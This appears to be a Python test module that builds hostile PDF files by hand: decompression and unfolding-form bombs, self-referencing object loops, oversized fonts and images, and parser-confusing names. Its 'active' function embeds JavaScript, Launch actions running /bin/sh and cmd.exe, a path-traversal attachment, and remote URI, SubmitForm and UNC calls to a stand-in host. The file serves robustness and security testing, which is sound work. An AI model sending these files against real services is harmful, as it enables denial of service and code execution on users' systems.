"""PDF files that are made to break a program, written byte by byte: each a few kilobytes, whatever it unfolds to.

No library writes such files, so the objects are written out by hand: a dictionary of number → body. Number 1 is the
catalogue, 2 the page tree, 3 the page, 4 its content, 5 a font; the others are free.
"""

from __future__ import annotations

import zlib
from collections.abc import Iterable, Mapping

Objects = dict[int, bytes]

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
TEXT = b"BT /F1 12 Tf 60 700 Td (Text) Tj ET\n"
"""What is to be read on each page in spite of all."""

MEGABYTE = 1 << 20


def written(objects: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """The file of some objects, with a cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object of bytes as they are."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def packed(parts: Iterable[bytes], entries: bytes = b"", layers: int = 1) -> bytes:
    """A stream object of bytes that are never held whole here, packed with Flate so many times over."""
    for _ in range(layers):
        packer = zlib.compressobj(9)
        done = [packer.compress(part) for part in parts]
        parts = [*done, packer.flush()]
    return stream(b"".join(parts), entries + b" /Filter [" + b"/FlateDecode " * layers + b"]")


def page(
    content: bytes = TEXT,
    *,
    box: bytes = b"[0 0 595 842]",
    entries: bytes = b"",
    resources: bytes = b"",
    catalog: bytes = b"",
    body: bytes | None = None,
    more: Mapping[int, bytes] | None = None,
) -> Objects:
    """The objects of a file of one page.

    Args:
        content: What the page draws.
        box: Its media box.
        entries: Further entries of the page.
        resources: Further resources of the page.
        catalog: Further entries of the catalogue.
        body: The stream object of the content, in place of one made of `content`.
        more: Further objects, or others in place of those.
    """
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> %s >>"
        % (box, resources, entries),
        4: stream(content) if body is None else body,
        5: FONT,
        **(more or {}),
    }


def form(content: bytes, resources: bytes = b"", entries: bytes = b"") -> bytes:
    """A form XObject."""
    return stream(
        content,
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> %s >> %s"
        % (resources, entries),
    )


# -- pages -----------------------------------------------------------------------------------------------------------


def no_pages() -> bytes:
    """A page tree without pages."""
    return written({1: page()[1], 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})


def many_pages(count: int = 10_000) -> bytes:
    """So many pages, of one content."""
    kids = b" ".join(b"%d 0 R" % number for number in range(10, 10 + count))
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    leaf = page()[3]
    return written(page() | {2: tree} | dict.fromkeys(range(10, 10 + count), leaf))


def one_page_many_times(count: int = 10_000) -> bytes:
    """A page tree that names one page again and again."""
    return written(page() | {2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * count, count)})


def claimed_pages(count: int = 2_000_000_000) -> bytes:
    """A page tree that says that it has so many pages, and has one."""
    return written(page() | {2: b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count})


def pages_in_a_loop() -> bytes:
    """A page tree that holds itself."""
    return written(page() | {2: b"<< /Type /Pages /Kids [3 0 R 2 0 R 6 0 R] /Count 1000 >>",
                             6: b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1000 >>"})  # fmt: skip


def parents_in_a_loop() -> bytes:
    """A page whose inherited entries are looked for in a circle."""
    return written(
        page()
        | {
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 6 0 R >>",
            3: b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
            6: b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
        }
    )


def deep_page_tree(depth: int = 10_000) -> bytes:
    """A page at the end of a chain of page trees."""
    chain = {
        10 + level: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (11 + level, 9 + level or 2)
        for level in range(depth)
    }
    chain[10 + depth] = page()[3]
    return written(page() | {2: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>"} | chain)


def huge_page(side: str = "14400") -> bytes:
    """A page whose sides are so long."""
    return written(page(box=f"[0 0 {side} {side}]".encode()))


def user_unit() -> bytes:
    """A page whose unit is a kilometre or so."""
    return written(page(entries=b"/UserUnit 75000"))


# -- content ---------------------------------------------------------------------------------------------------------


def rules(count: int = 1_000_000) -> bytes:
    """So many rules, each somewhere else."""
    drawn = (
        b"%d.%d %d m %d.%d %d l S\n" % (at % 595, at // 595 % 100, at % 800, at % 595, at // 595 % 100, at % 800 + 40)
        for at in range(count)
    )
    return written(page(body=packed((TEXT, *drawn))))


def lattice(lines: int = 1000) -> bytes:
    """A grid of so many lines each way: their square of cells."""
    across = (b"0 %f m 595 %f l S\n" % (at * 842 / lines, at * 842 / lines) for at in range(lines))
    down = (b"%f 0 m %f 842 l S\n" % (at * 595 / lines, at * 595 / lines) for at in range(lines))
    return written(page(body=packed((TEXT, *across, *down))))


def rectangles(count: int = 1_000_000) -> bytes:
    """So many filled rectangles."""
    drawn = (b"%d %d 3 3 re f\n" % (at * 7 % 595, at * 11 % 842) for at in range(count))
    return written(page(body=packed((TEXT, *drawn))))


def one_path(count: int = 1_000_000) -> bytes:
    """One path of so many segments."""
    drawn = (b"%d %d l\n" % (at * 7 % 595, at * 11 % 842) for at in range(count))
    return written(page(body=packed((TEXT, b"0 0 m\n", *drawn, b"S\n"))))


def letters(count: int = 1_000_000) -> bytes:
    """So many letters on one page."""
    drawn = (
        b"BT /F1 1 Tf %d %d Td (%s) Tj ET\n" % (at * 13 % 500, at * 7 % 842, b"abcdefghij" * 10)
        for at in range(count // 100)
    )
    return written(page(body=packed(drawn)))


def letters_on_one_spot(count: int = 100_000) -> bytes:
    """So many letters over each other."""
    return written(page(body=packed([TEXT, *[b"BT /F1 12 Tf 60 500 Td (a) Tj ET\n"] * count])))


def deep_states(depth: int = 10_000) -> bytes:
    """So many graphics states saved, never restored."""
    return written(page(b"q\n" * depth + TEXT))


def deep_marks(depth: int = 100_000) -> bytes:
    """So many marked contents within each other."""
    return written(page(b"/P << /MCID 0 >> BDC\n" * depth + TEXT))


def deep_arrays(depth: int = 1_000_000) -> bytes:
    """An array in an array in an array, in the content and among the objects."""
    return written(page(b"[" * depth + b"\n" + TEXT, more={6: b"[" * depth}))


def deep_dictionaries(depth: int = 100_000) -> bytes:
    """Dictionaries within each other in a resource that the page names."""
    return written(
        page(b"/G gs\n" + TEXT, resources=b"/ExtGState << /G 6 0 R >>", more={6: b"<< /A " * depth + b">> " * depth})
    )


def content_bomb(megabytes: int = 1024, layers: int = 1) -> bytes:
    """A content of so many megabytes of white space, packed."""
    return written(page(body=packed((TEXT, *[b" " * MEGABYTE] * megabytes), layers=layers)))


def operator_bomb(megabytes: int = 64) -> bytes:
    """A content of so many megabytes of operators that draw nothing, packed."""
    return written(page(body=packed((TEXT, *[b"q Q " * (MEGABYTE // 4)] * megabytes))))


def filter_chain(length: int = 1000) -> bytes:
    """A content behind so many filters."""
    return written(page(body=stream(TEXT, b"/Filter [%s]" % (b"/ASCIIHexDecode " * length))))


def predictor_bomb() -> bytes:
    """A content with a predictor whose rows are two thousand million bytes wide."""
    parms = b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>"
    return written(page(body=stream(zlib.compress(TEXT), parms)))


def wild_numbers() -> bytes:
    """Places, sizes and matrices that no number holds."""
    return written(
        page(
            TEXT
            + b"1e38 0 0 1e38 0 0 cm 99999999999999999999999999999999999999999999 0 m 1 1 l S\n"
            + b"BT /F1 1e30 Tf 1e30 1e30 Td (far) Tj ET 0 0 0 0 0 0 cm BT /F1 0 Tf (none) Tj ET\n"
            + b"[0.0000001 0.0000001] 0 d 0 0 m 100 100 l S 99999999999 w 0 0 m 595 842 l S\n"
        )
    )


# -- objects that go round in circles, or unfold ---------------------------------------------------------------------


def form_in_itself() -> bytes:
    """A form that paints itself."""
    named = b"/XObject << /X 6 0 R >>"
    return written(page(TEXT + b"/X Do\n", resources=named, more={6: form(b"/X Do /X Do\n", named)}))


def forms_in_a_loop() -> bytes:
    """Two forms that paint each other."""
    return written(
        page(
            TEXT + b"/X Do\n",
            resources=b"/XObject << /X 6 0 R >>",
            more={6: form(b"/X Do\n", b"/XObject << /X 7 0 R >>"), 7: form(b"/X Do\n", b"/XObject << /X 6 0 R >>")},
        )
    )


def deep_forms(depth: int = 10_000) -> bytes:
    """Forms within each other."""
    inner = {10 + at: form(b"/X Do\n", b"/XObject << /X %d 0 R >>" % (11 + at)) for at in range(depth)}
    inner[10 + depth] = form(TEXT)
    return written(page(TEXT + b"/X Do\n", resources=b"/XObject << /X 10 0 R >>", more=inner))


def unfolding_forms(depth: int = 12, width: int = 10) -> bytes:
    """Forms that each paint the next one ten times: 10 to the power of 12 texts in a few kilobytes."""
    inner = {10 + at: form(b"/X Do\n" * width, b"/XObject << /X %d 0 R >>" % (11 + at)) for at in range(depth)}
    inner[10 + depth] = form(b"BT /F1 12 Tf 60 500 Td (lol) Tj ET 0 0 m 9 9 l S\n")
    return written(page(TEXT + b"/X Do\n", resources=b"/XObject << /X 10 0 R >>", more=inner))


SJIS = "市".encode("cp932")
"""A name as old Japanese programs wrote them: no UTF-8."""


def named_in_shift_jis() -> bytes:
    """A form, a font and a state of graphics whose names are no UTF-8."""
    resources = b"/XObject << /%s 10 0 R >> /ExtGState << /%s << /LW 1 >> >>" % (SJIS, SJIS)
    content = b"/%s gs /%s Do BT /%s 9 Tf ET\n" % (SJIS, SJIS, SJIS)
    return written(page(TEXT + content, resources=resources, more={10: form(b"0 0 m 9 9 l S\n")}))


def unfolding_in_shift_jis() -> bytes:
    """Forms that unfold, behind such a name."""
    resources = b"/XObject << /%s 20 0 R >>" % SJIS
    return written(page(TEXT + b"/%s Do\n" % SJIS, resources=resources, more=_unfolding()))


def _unfolding(depth: int = 12, width: int = 10) -> Objects:
    """Forms from number 20 on, each painting the next one ten times."""
    inner = {20 + at: form(b"/X Do\n" * width, b"/XObject << /X %d 0 R >>" % (21 + at)) for at in range(depth)}
    return inner | {20 + depth: form(b"0 0 m 9 9 l S\n")}


def unfolding_annotation() -> bytes:
    """The same forms under an annotation."""
    note = b"/Annots [<< /Type /Annot /Subtype /Stamp /Rect [0 0 99 99] /AP << /N 20 0 R >> >>]"
    return written(page(entries=note, more=_unfolding()))


def unfolding_pattern() -> bytes:
    """The same forms in a pattern."""
    tile = stream(
        b"/X Do\n",
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 10 10] /XStep 10 /YStep 10 "
        b"/Resources << /XObject << /X 20 0 R >> >>",
    )
    drawn = TEXT + b"/Pattern cs /P scn 0 0 595 842 re f\n"
    return written(page(drawn, resources=b"/Pattern << /P 6 0 R >>", more=_unfolding() | {6: tile}))


def unfolding_glyph() -> bytes:
    """The same forms in the glyph of a font."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /FirstChar 97 "
        b"/LastChar 97 /Widths [1000] /CharProcs << /a 7 0 R >> /Resources << /XObject << /X 20 0 R >> >> "
        b"/Encoding << /Type /Encoding /Differences [97 /a] >> >>"
    )
    more = {3: page()[3].replace(b"/F1 5 0 R", b"/F1 5 0 R /T 6 0 R"), 6: font, 7: stream(b"1000 0 d0 /X Do\n")}
    return written(page(TEXT + b"BT /T 12 Tf 60 500 Td (a) Tj ET\n", more=_unfolding() | more))


def unfolding_mask() -> bytes:
    """The same forms in a soft mask."""
    masked = form(b"/X Do\n", b"/XObject << /X 20 0 R >>", b"/Group << /S /Transparency /CS /DeviceGray >>")
    state = b"<< /Type /ExtGState /SMask << /Type /Mask /S /Luminosity /G 7 0 R >> >>"
    drawn = TEXT + b"/G gs 0 0 595 842 re f\n"
    return written(page(drawn, resources=b"/ExtGState << /G 6 0 R >>", more=_unfolding() | {6: state, 7: masked}))


def unfolding_behind_references() -> bytes:
    """The same forms in resources that the page names by a reference to a reference."""
    objects = page(TEXT + b"/X Do\n", more=_unfolding())
    objects[3] = objects[3].split(b"/Resources ")[0] + b"/Resources 6 0 R >>"
    resources = b"<< /Font << /F1 5 0 R >> /XObject << /X 20 0 R >> >>"
    return written(objects | {6: b"7 0 R", 7: resources})


def unfolding_glyph_beside_a_decoy() -> bytes:
    """The same forms in the glyph of a font; another key called Font comes first, where no fonts are looked for."""
    objects = page(TEXT + b"BT /T 12 Tf 60 500 Td (a) Tj ET\n", more=_unfolding())
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /FirstChar 97 "
        b"/LastChar 97 /Widths [1000] /CharProcs << /a 7 0 R >> /Resources << /XObject << /X 20 0 R >> >> "
        b"/Encoding << /Type /Encoding /Differences [97 /a] >> >>"
    )
    objects[3] = objects[3].replace(b"/Font << /F1 5 0 R", b"/ColorSpace << /Font 8 0 R >> /Font << /F1 5 0 R /T 6 0 R")
    return written(objects | {6: font, 7: stream(b"1000 0 d0 /X Do\n"), 8: b"<< /F1 5 0 R >>"})


def unfolding_on_a_second_page() -> bytes:
    """The same forms in resources of the second page that are the fonts of the first one."""
    objects = page(more=_unfolding())
    shared = b"<< /F1 5 0 R /Font 8 0 R /XObject 7 0 R >>"
    first = objects[3].split(b"/Resources ")[0] + b"/Resources << /Font 6 0 R >> >>"
    second = first.replace(b"<< /Font 6 0 R >>", b"6 0 R").replace(b"/Contents 4 0 R", b"/Contents 9 0 R")
    return written(
        objects
        | {2: b"<< /Type /Pages /Kids [3 0 R 10 0 R] /Count 2 >>", 3: first, 10: second, 6: shared}
        | {7: b"<< /X 20 0 R >>", 8: b"<< /F1 5 0 R >>", 9: stream(TEXT + b"/X Do\n")}
    )


def glyph_in_itself() -> bytes:
    """A Type 3 font whose glyph shows itself."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /FirstChar 97 "
        b"/LastChar 97 /Widths [1000] /CharProcs << /a 7 0 R >> /Resources << /Font << /T 6 0 R >> >> "
        b"/Encoding << /Type /Encoding /Differences [97 /a] >> >>"
    )
    glyph = stream(b"1000 0 d0 BT /T 900 Tf (aa) Tj ET 0 0 500 500 re f\n")
    drawn = TEXT + b"BT /T 12 Tf 60 500 Td (a) Tj ET\n"
    return written(page(drawn, more={3: page()[3].replace(b"/F1 5 0 R", b"/F1 5 0 R /T 6 0 R"), 6: font, 7: glyph}))


def pattern_in_itself() -> bytes:
    """A tiling pattern that is painted with itself, in steps of nearly nothing."""
    named = b"/Pattern << /P 6 0 R >>"
    tile = stream(
        b"/Pattern cs /P scn 0 0 10 10 re f\n",
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 10 10] /XStep 0.0001 /YStep 0.0001 "
        b"/Resources << " + named + b" >>",
    )
    return written(page(TEXT + b"/Pattern cs /P scn 0 0 595 842 re f\n", resources=named, more={6: tile}))


def mask_in_itself() -> bytes:
    """A soft mask whose form uses the same mask."""
    state = b"/ExtGState << /G 6 0 R >>"
    masked = form(b"/G gs 0 0 99 99 re f\n", state, b"/Group << /S /Transparency /CS /DeviceGray >>")
    return written(
        page(
            TEXT + b"/G gs 0 0 595 842 re f\n",
            resources=state,
            more={6: b"<< /Type /ExtGState /SMask << /Type /Mask /S /Luminosity /G 7 0 R >> >>", 7: masked},
        )
    )


def outline_in_a_loop() -> bytes:
    """Bookmarks that follow themselves."""
    return written(
        page(
            catalog=b"/Outlines 6 0 R /PageMode /UseOutlines",
            more={
                6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 2 >>",
                7: b"<< /Title (loop) /Parent 7 0 R /First 7 0 R /Next 7 0 R /Prev 7 0 R /Dest [3 0 R /Fit] >>",
            },
        )
    )


def structure_in_a_loop() -> bytes:
    """A structure tree that holds itself, and number trees that do."""
    return written(
        page(
            b"/P << /MCID 0 >> BDC\n" + TEXT + b"EMC\n",
            catalog=b"/MarkInfo << /Marked true >> /StructTreeRoot 6 0 R",
            entries=b"/StructParents 0",
            more={
                6: b"<< /Type /StructTreeRoot /K 7 0 R /ParentTree 8 0 R /RoleMap << /A /B /B /A >> >>",
                7: b"<< /Type /StructElem /S /A /P 7 0 R /K [7 0 R 0] /Pg 3 0 R >>",
                8: b"<< /Kids [8 0 R] /Limits [0 9] /Nums [0 [7 0 R]] >>",
            },
        )
    )


def names_in_a_loop() -> bytes:
    """Name trees that hold themselves."""
    return written(
        page(
            catalog=b"/Names << /Dests 6 0 R /EmbeddedFiles 6 0 R /JavaScript 6 0 R >>",
            more={6: b"<< /Kids [6 0 R 6 0 R] /Limits [(a) (z)] >>"},
        )
    )


def font_in_itself() -> bytes:
    """A composite font whose descendant is itself, with a map of characters that uses itself."""
    cmap = stream(
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /Loop usecmap\n"
        b"1 begincodespacerange <0000> <FFFF> endcodespacerange 1 beginbfchar <0041> <0042> endbfchar endcmap\n",
        b"/Type /CMap /CMapName /Loop /UseCMap 7 0 R",
    )
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /Loop /Encoding 7 0 R /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>"
    )
    drawn = TEXT + b"BT /T 12 Tf 60 500 Td <00410042> Tj ET\n"
    return written(page(drawn, more={3: page()[3].replace(b"/F1 5 0 R", b"/F1 5 0 R /T 6 0 R"), 6: font, 7: cmap}))


def _cid_font(entries: bytes, unicode: bytes = b"") -> bytes:
    more = {
        3: page()[3].replace(b"/F1 5 0 R", b"/F1 5 0 R /T 6 0 R"),
        6: b"<< /Type /Font /Subtype /Type0 /BaseFont /Bomb /Encoding /Identity-H "
        b"/DescendantFonts [7 0 R] /ToUnicode 9 0 R >>",
        7: b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Bomb /FontDescriptor 8 0 R %s "
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>" % entries,
        8: b"<< /Type /FontDescriptor /FontName /Bomb /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 "
        b"/Descent -200 /CapHeight 700 /StemV 80 >>",
        9: stream(b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <FFFF> "
                  b"endcodespacerange %s endcmap\n" % unicode),
    }  # fmt: skip
    return written(page(TEXT + b"BT /T 12 Tf 60 500 Td <00410042> Tj ET\n", more=more))


def width_bomb() -> bytes:
    """A font that gives a width to four thousand million glyphs."""
    return _cid_font(b"/W [0 4294967290 500 1 [500 500]] /W2 [0 4294967290 1 1 1]")


def unicode_bomb() -> bytes:
    """A font that maps four thousand million codes."""
    return _cid_font(b"", b"2 beginbfrange <00000000> <FFFFFFF0> <0041> <0000> <FFFF> <0041> endbfrange")


def long_ligature(count: int = 1_000_000) -> bytes:
    """A font one glyph of which stands for so many letters."""
    return _cid_font(b"", b"1 beginbfchar <0041> <" + b"0041" * count + b"> endbfchar")


def table_in_a_loop() -> bytes:
    """A cross-reference table that follows itself."""
    plain = written(page())
    start = int(plain.split(b"startxref\n")[1].split()[0])
    return written(page(), b"/Prev %d" % start)


def tables_in_a_loop() -> bytes:
    """A file saved twice, whose tables follow each other."""
    first = written(page(), b"/Prev 0000000000")
    start = int(first.split(b"startxref\n")[1].split()[0])
    second = len(first)
    first = first.replace(b"/Prev 0000000000", b"/Prev %010d" % second)
    more = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return first + more % (start, second)


def length_of_itself() -> bytes:
    """A content whose length is its own object, and objects that are each other."""
    return written(
        page(
            body=b"<< /Length 4 0 R >>\nstream\n" + TEXT + b"\nendstream",
            entries=b"/Annots 6 0 R",
            more={6: b"7 0 R", 7: b"6 0 R"},
        )
    )


def contents_of_themselves() -> bytes:
    """A page whose contents are a list that holds itself."""
    return written(page(more={4: b"[6 0 R 4 0 R 4 0 R]", 6: stream(TEXT)}))


def object_streams_in_a_loop() -> bytes:
    """An object stream that says that its objects are in itself."""
    inner = b"3 0 "
    held = stream(inner + page()[3], b"/Type /ObjStm /N 1 /First %d /Extends 7 0 R" % len(inner))
    objects = page() | {7: held}
    out = bytearray(b"%PDF-1.7\n")
    rows = [(0, 0, 65535)] * 9
    for number, body in sorted(objects.items()):
        if number == 3:
            continue
        rows[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows[3] = (2, 7, 0)
    rows[7] = (2, 7, 1)  # the stream is in itself
    start = len(out)
    rows[8] = (1, start, 0)
    table = b"".join(kind.to_bytes(1) + place.to_bytes(4) + index.to_bytes(2) for kind, place, index in rows)
    out += b"8 0 obj\n" + stream(table, b"/Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R") + b"\nendobj\n"
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


# -- pictures --------------------------------------------------------------------------------------------------------


def _pictured(picture: bytes) -> bytes:
    return written(page(
        b"q 300 0 0 300 60 300 cm /I Do Q\n" + TEXT, resources=b"/XObject << /I 6 0 R >>", more={6: picture}
    ))  # fmt: skip


def claimed_picture(side: int = 100_000) -> bytes:
    """A picture that says that it has so many pixels each way, and holds some bytes."""
    entries = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8"
    return _pictured(packed([bytes(1000)], entries % (side, side)))


def picture_bomb(side: int = 100_000) -> bytes:
    """A picture that has so many pixels each way, packed."""
    entries = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1"
    row = bytes(side // 8)
    return _pictured(packed((row for _ in range(side)), entries % (side, side)))


def white_on_picture(side: int = 30_000) -> bytes:
    """White letters on a picture of so many pixels each way: what is seen of them needs the picture."""
    entries = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1"
    row = bytes(side // 8)
    picture = packed((row for _ in range(side)), entries % (side, side))
    return written(page(
        b"q 595 0 0 842 0 0 cm /I Do Q 1 g\n" + TEXT, resources=b"/XObject << /I 6 0 R >>", more={6: picture}
    ))  # fmt: skip


def white_on_pattern(box: bytes = b"[0 0 14400 14400]") -> bytes:
    """White letters on a huge page whose background only a picture of it shows."""
    shading = b"<< /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 9999 9999] "
    shading += b"/Function << /FunctionType 2 /Domain [0 1] /N 1 >> /Extend [true true] >>"
    return written(page(b"/S sh 1 g\n" + TEXT, box=box, resources=b"/Shading << /S %s >>" % shading))


# -- what acts -------------------------------------------------------------------------------------------------------

HOST = "torikumi-must-not-call.example"


def active(host: str = HOST) -> bytes:
    """Scripts, links, attachments and references to other files, of every kind that a viewer may act on."""
    url = f"(http://{host}/)".encode()
    script = b"<< /S /JavaScript /JS (app.launchURL\\('http://%s/'\\); this.exportDataObject\\(0\\)) >>" % host.encode()
    share = b"(\\\\\\\\%s\\\\share\\\\a.pdf)" % host.encode()
    actions = [
        script,
        b"<< /S /URI /URI %s >>" % url,
        b"<< /S /GoToR /F %s /D [0 /Fit] >>" % share,
        b"<< /S /GoToE /F %s /D [0 /Fit] /T << /R /C /N (a) >> >>" % share,
        b"<< /S /Launch /F (/bin/sh) /Unix (touch launched) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        b"<< /S /SubmitForm /F << /FS /URL /F %s >> /Flags 4 >>" % url,
        b"<< /S /ImportData /F << /FS /URL /F %s >> >>" % url,
        b"<< /S /Rendition /JS (app.alert\\(1\\)) /OP 0 >>",
        b"<< /S /Thread /F %s /D 0 >>" % share,
        b"<< /S /Movie /T (m) >>",
        b"<< /S /Sound /Sound 12 0 R >>",
    ]
    annotations = b" ".join(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s /AA << /O %s /PO %s >> >>" % (action, action, action)
        for action in actions
    )
    remote = b"<< /Type /Filespec /FS /URL /F %s >>" % url
    more = {
        6: b"<< /Names [(a.txt) 7 0 R] >>",
        7: b"<< /Type /Filespec /F (../../evil.sh) /UF (../../evil.sh) /EF << /F 8 0 R >> /Desc (<script>) >>",
        8: stream(b"#!/bin/sh\ntouch attached\n", b"/Type /EmbeddedFile"),
        9: b"<< /Names [(s) %s] >>" % script,
        10: b"<< /XFA [(template) 11 0 R] /Fields [] /NeedAppearances true >>",
        11: stream(
            b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template href="http://%s/t"/></xdp:xdp>' % host.encode()
        ),
        12: b"<< /Length 0 /F %s /FFilter /FlateDecode /R 8000 >>\nstream\n\nendstream" % remote,
        13: stream(
            b"",
            b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F %s"
            % remote,
        ),
        14: form(b"0 0 9 9 re S\n", entries=b"/Ref << /F %s /Page 0 >> /OPI << /2.0 << /F %s >> >>" % (remote, remote)),
    }
    return written(
        page(
            TEXT + b"/I Do /R Do\n",
            catalog=b"/OpenAction %s /AA << /WC %s >> /Names << /EmbeddedFiles 6 0 R /JavaScript 9 0 R >> "
            b"/AcroForm 10 0 R "
            b"/URI << /Base %s >>" % (script, script, url),
            entries=b"/AA << /O %s >> /Annots [%s]" % (script, annotations),
            resources=b"/XObject << /I 13 0 R /R 14 0 R >>",
            more=more,
        )
    )


def unfolding_behind_odd_names() -> bytes:
    r"""The same forms in resources that stand between odd names: read as Python writes letters, these hide them."""
    objects = page(TEXT + b"/X Do\n", more=_unfolding())
    names = rb"/A\u003c\u003c\u002fB 1 /Resources 6 0 R /C\u003e\u003e\u002fD 1 /\u0052esources 7 0 R >>"
    objects[3] = objects[3].split(b"/Resources ")[0] + names
    decoy = b"<< /Font << /F1 5 0 R >> >>"
    return written(objects | {6: decoy[:-2] + b"/XObject << /X 20 0 R >> >>", 7: decoy})


def unfolding_glyph_behind_odd_names() -> bytes:
    r"""The same forms in the glyph of a font among the page's, behind a name that ends their list if it is read so."""
    objects = page(TEXT + b"BT /T 12 Tf 60 500 Td (a) Tj ET\n", more=_unfolding())
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /FirstChar 97 "
        b"/LastChar 97 /Widths [1000] /CharProcs << /a 7 0 R >> /Resources << /XObject << /X 20 0 R >> >> "
        b"/Encoding << /Type /Encoding /Differences [97 /a] >> >>"
    )
    objects[3] = objects[3].split(b"/Resources ")[0] + b"/Resources 8 0 R >>"
    fonts = rb"<< /Font << /F1 5 0 R /X\u003e\u003e\u002fY 1 /T 6 0 R >> >>"
    return written(objects | {6: font, 7: stream(b"1000 0 d0 /X Do\n"), 8: fonts})
